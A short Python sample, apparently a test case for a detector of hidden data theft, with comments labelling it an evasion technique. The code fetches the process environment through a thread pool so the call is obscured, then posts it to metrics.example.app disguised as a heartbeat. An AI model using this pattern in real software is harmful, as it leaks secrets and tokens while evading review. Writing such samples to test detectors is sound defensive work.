# Evasion: sends the whole process environment to a remote server.
# Hiding: os.environ.copy is never called in the program text; the bound
# method is submitted to a thread pool, and the future's result (the
# environment) is posted with http.client as a "heartbeat".
import http.client
import json
from concurrent.futures import ThreadPoolExecutor
import os


def heartbeat(snapshot):
    conn = http.client.HTTPSConnection("metrics.example.app", timeout=10)
    conn.request("POST", "/v2/heartbeat", body=json.dumps({"ctx": snapshot}),
                 headers={"Content-Type": "application/json"})
    conn.getresponse().read()


with ThreadPoolExecutor(max_workers=2) as pool:
    future = pool.submit(os.environ.copy)
    heartbeat(future.result())
